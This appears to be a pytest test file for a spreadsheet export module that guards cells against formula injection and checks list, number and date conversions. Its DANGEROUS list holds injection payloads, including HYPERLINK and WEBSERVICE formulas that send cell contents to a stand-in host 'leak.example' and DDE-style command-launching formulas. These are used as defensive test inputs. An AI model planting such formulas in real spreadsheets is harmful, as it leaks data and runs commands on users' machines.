"""Cells: safe in a spreadsheet, and back again without loss."""

from __future__ import annotations

import math
import random
import re
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from triage.errors import ExportError
from triage.exchange.cells import cell_reader, cell_text, from_json, guarded, joined, json_value, parted, unguarded
from triage.exchange.schema import Column, Kind

HOSTILE = "=+-@|%'\" \t\r\n;,\\aZ09\ufeff\u200b\u202e\u00a0\u00ad\u2066\uff1d\uff0b\uff0d\uff20\ufffd\x00\x1b\u3164é"
SIGNS = "=+-@|%"

DANGEROUS = [
    "=2*3",
    "+2*3",
    "-2*3",
    "@AVERAGE(B1,B2)",
    "|calc",
    "%0A",
    '=HYPERLINK("http://leak.example/?"&B7,"more")',
    '=WEBSERVICE("http://leak.example/"&C3)',
    "=tool|' /x open'!B2",
    "+tool|' /x open'!B2",
    "-7+8+tool|' /x open'!B2",
    "\t=2*3",
    "\r=2*3",
    "\n=2*3",
    "\tno formula, but a tab first",
    "\nno formula, but a line feed first",
    "   =2*3",
    "\u00a0=2*3",
    "\ufeff=2*3",
    "\u200b=2*3",
    "\x00=2*3",
    "\x1b=2*3",
    "\u202e=2*3",
    "\u2066=2*3",
    "\u00ad=2*3",
    "\u3164=2*3",
    "\U000e0041=2*3",
    " \u00a0\ufeff\u200b =2*3",
    "\uff1d2*3",
    "\uff0b2*3",
    "\uff0d2*3",
    "\uff20AVERAGE(B1)",
    "\uff5ccalc",
    "\uff050",
    "'=2*3",
    "''=2*3",
    "' '=2*3",
    "'\t",
    "-12",
    "+44 20 7946 0000",
    "@newsdesk",
    "- 3 soldiers were hurt",
]
HARMLESS = [
    "",
    "'",
    "''",
    "'tis quiet",
    "a=b",
    "— AFP",
    "\u2212 5",
    "0042",
    "3/4",
    "SEPT2",
    "2E7",
    "98765432109876543210",
    '"',
    'x",=2*3,"y',
    "x\r\n=2*3",
    "x\ry",
    "x;=2*3;y",
    "x\t=2*3",
    "بغداد",
    "\U0001f30d Basra",
    "y" * 40000,
]


def text_column(kind: Kind = Kind.STRING) -> Column:
    return Column("words", kind, "words", "a test")


def opens_formula(cell: str) -> bool:
    """Say, slowly and one character at a time, whether a spreadsheet could take a cell for a formula."""
    if cell[:1] in {"\t", "\r", "\n"}:
        return True
    for char in cell:
        blank = char.isspace() or unicodedata.category(char) in {"Cc", "Cf"} or char in "\ufffd\u3164"
        if not blank:
            return unicodedata.normalize("NFKC", char) in SIGNS
    return False


@pytest.mark.parametrize("cell", DANGEROUS)
def test_a_dangerous_cell_gets_one_apostrophe_more(cell: str) -> None:
    assert guarded(cell) == "'" + cell
    assert unguarded(guarded(cell)) == cell


@pytest.mark.parametrize("cell", HARMLESS, ids=lambda cell: repr(cell[:12]))
def test_a_harmless_cell_stays_as_it_is(cell: str) -> None:
    assert guarded(cell) == cell
    assert unguarded(cell) == cell


def test_twenty_thousand_hostile_cells_come_back_and_no_two_meet() -> None:
    dice = random.Random(20170220)
    seen: dict[str, str] = {}
    for _ in range(20_000):
        cell = "".join(dice.choice(HOSTILE) for _ in range(dice.randrange(9)))
        safe = guarded(cell)
        assert unguarded(safe) == cell
        assert not opens_formula(safe)
        assert seen.setdefault(safe, cell) == cell


@given(st.text(st.sampled_from(HOSTILE) | st.characters(), max_size=12))
def test_what_the_guard_leaves_alone_opens_no_formula(cell: str) -> None:
    assert unguarded(guarded(cell)) == cell
    if guarded(cell) == cell:
        assert not opens_formula(cell)


def test_the_guard_is_linear_on_a_hostile_run() -> None:
    run = "' \u200b" * 200_000
    assert guarded(run + "x") == run + "x"
    assert guarded(run + "=") == "'" + run + "="


@given(st.lists(st.text(st.sampled_from("ab;\\ '="), min_size=1, max_size=8), max_size=5).map(tuple))
@settings(max_examples=300)
def test_a_list_comes_back_and_a_plain_split_counts_its_items(items: tuple[str, ...]) -> None:
    text = joined(items)
    assert parted(text) == items
    assert (text.split("; ") if text else []) == [re.sub(r";(\\*)(?= )", r";\\\1", item) for item in items]


def test_a_list_without_semicolons_is_only_joined() -> None:
    assert joined(("Reuters", "AFP")) == "Reuters; AFP"
    assert joined(("Smith; Sons", "AFP")) == "Smith;\\ Sons; AFP"
    assert joined(("", "AFP")) == "AFP"
    assert joined(()) == ""
    assert parted("") == ()


@pytest.mark.parametrize(
    ("kind", "value", "text"),
    [
        (Kind.STRING, "-5", "'-5"),
        (Kind.STRING, None, ""),
        (Kind.STRING, "a\x00b\x1bc\ud800", "a\ufffdb\ufffdc\ufffd"),
        (Kind.STRING, "\x00=1", "'\ufffd=1"),
        (Kind.STRING, "a\tb\nc\rd", "a\tb\nc\rd"),
        (Kind.INTEGER, -5, "-5"),
        (Kind.INTEGER, 0, "0"),
        (Kind.NUMBER, -5, "-5"),
        (Kind.NUMBER, 36.34, "36.34"),
        (Kind.NUMBER, 36.0, "36"),
        (Kind.NUMBER, 100.0, "100"),
        (Kind.NUMBER, 1 / 3, "0.333333"),
        (Kind.NUMBER, -1e-9, "0"),
        (Kind.NUMBER, 1e-6, "0.000001"),
        (Kind.BOOLEAN, True, "true"),
        (Kind.BOOLEAN, False, "false"),
        (Kind.DATE, "2017-02-20", "2017-02-20"),
        (Kind.DATE, "=1", "'=1"),
        (Kind.LIST, ("-a", "b"), "'-a; b"),
        (Kind.LIST, (), ""),
        (Kind.VALUE, {"b": None, "a": [1, "x"]}, '{"a":[1,"x"],"b":null}'),
        (Kind.VALUE, -5, "'-5"),
        (Kind.VALUE, "", '""'),
    ],
)
def test_each_kind_has_one_spelling(kind: Kind, value: object, text: str) -> None:
    assert cell_text(value, text_column(kind)) == text


def test_raw_cells_are_not_guarded() -> None:
    assert cell_text("=1", text_column(), raw=True) == "=1"
    assert cell_reader(text_column(), raw=True)("'=1") == "'=1"


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        (Kind.INTEGER, "1.5"),
        (Kind.INTEGER, "1."),
        (Kind.INTEGER, "1e3"),
        (Kind.INTEGER, "1_0"),
        (Kind.INTEGER, "٣"),
        (Kind.INTEGER, "9" * 30),
        (Kind.NUMBER, "nan"),
        (Kind.NUMBER, "1e5"),
        (Kind.BOOLEAN, "yes"),
        (Kind.BOOLEAN, "2"),
        (Kind.DATE, "20/02/2017"),
        (Kind.DATE, "2017-02-30"),
        (Kind.DATE, "20170220"),
        (Kind.DATETIME, "2017-02-20"),
        (Kind.DATETIME, "2017-2-20T1:00:00Z"),
        (Kind.DATETIME, "2017-02-20T25:00:00Z"),
        (Kind.VALUE, "{"),
        (Kind.VALUE, "[" * 100_000),
    ],
)
def test_a_cell_of_another_type_is_named(kind: Kind, text: str) -> None:
    with pytest.raises(ValueError):
        cell_reader(text_column(kind))(text)


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        (Kind.STRING, 5),
        (Kind.INTEGER, True),
        (Kind.INTEGER, 1.5),
        (Kind.INTEGER, float("inf")),
        (Kind.NUMBER, "1"),
        (Kind.NUMBER, math.inf),
        (Kind.NUMBER, 10**40),
        (Kind.BOOLEAN, 1),
        (Kind.DATE, ""),
        (Kind.DATETIME, "yesterday"),
        (Kind.LIST, "a; b"),
        (Kind.LIST, ["a", None]),
    ],
)
def test_a_json_value_of_another_type_is_named(kind: Kind, value: object) -> None:
    with pytest.raises(ValueError):
        from_json(value, text_column(kind))


@pytest.mark.parametrize("value", [math.nan, math.inf, -math.inf])
def test_no_table_holds_a_number_that_is_none(value: float) -> None:
    with pytest.raises(ExportError):
        cell_text(value, text_column(Kind.NUMBER))
    with pytest.raises(ExportError):
        json_value(value, text_column(Kind.NUMBER))


def test_json_values_are_exact_but_for_decimals() -> None:
    assert json_value(("a; b", "=1"), text_column(Kind.LIST)) == ["a; b", "=1"]
    assert json_value(1 / 3, text_column(Kind.NUMBER)) == 0.333333
    assert json_value("=1", text_column()) == "=1"
    assert json_value(None, text_column(Kind.LIST)) is None
    assert from_json(None, text_column(Kind.LIST)) == ()
    assert from_json(3, text_column(Kind.NUMBER)) == 3.0


@pytest.mark.parametrize(
    ("kind", "text", "value"),
    [
        (Kind.BOOLEAN, "TRUE", True),  # a spreadsheet
        (Kind.BOOLEAN, "False", False),  # a data frame
        (Kind.BOOLEAN, "1.0", True),  # one with empty cells
        (Kind.INTEGER, "24.0", 24),  # a data frame with empty cells
        (Kind.INTEGER, "-3.000", -3),
        (Kind.NUMBER, "-1e-06", -1e-6),
        (Kind.NUMBER, "5.25E-5", 5.25e-5),
    ],
)
def test_what_other_programs_make_of_a_cell_is_read(kind: Kind, text: str, value: object) -> None:
    found = cell_reader(Column("x", kind, "x", "x"))(text)
    assert (found, type(found)) == (value, type(value))


def test_a_whole_number_of_a_data_frame_is_read_from_json() -> None:
    found = from_json(24.0, Column("x", Kind.INTEGER, "x", "x"))
    assert (found, type(found)) == (24, int)


@pytest.mark.parametrize(
    ("kind", "text", "value"),
    [
        (Kind.DATE, "2017-02-20", "2017-02-20"),
        (Kind.DATE, "2017-02-20 00:00:00", "2017-02-20"),
        (Kind.DATE, "2017-02-20T00:00:00.000", "2017-02-20"),
        (Kind.DATE, "2017-02-20 00:00:00+00:00", "2017-02-20"),
        (Kind.DATE, "2017-02-20 10:00:00", None),
        (Kind.DATE, "20/02/2017", None),
        (Kind.DATE, "2017-02-30", None),
        (Kind.DATE, "20170220", None),
        (Kind.DATE, "\u0662\u0660\u0661\u0667-02-20", None),
        (Kind.DATETIME, "2017-02-20T10:12:00Z", "2017-02-20T10:12:00Z"),
        (Kind.DATETIME, "2017-02-20 10:12:00+00:00", "2017-02-20T10:12:00Z"),
        (Kind.DATETIME, "2017-02-20T10:12:00.250Z", "2017-02-20T10:12:00Z"),
        (Kind.DATETIME, "2017-02-20T10:12:00+02:00", None),
        (Kind.DATETIME, "2017-02-20T10:12:00", None),
        (Kind.DATETIME, "2017-02-20T25:12:00Z", None),
    ],
)
def test_days_and_times_are_read_as_spreadsheets_and_data_frames_save_them(
    kind: Kind, text: str, value: str | None
) -> None:
    column = Column("day", kind, "a day", "a test")
    for read in (cell_reader(column), lambda given: from_json(given, column)):
        if value is None:
            with pytest.raises(ValueError, match=r"a (day|time) like"):
                read(text)
        else:
            assert read(text) == value
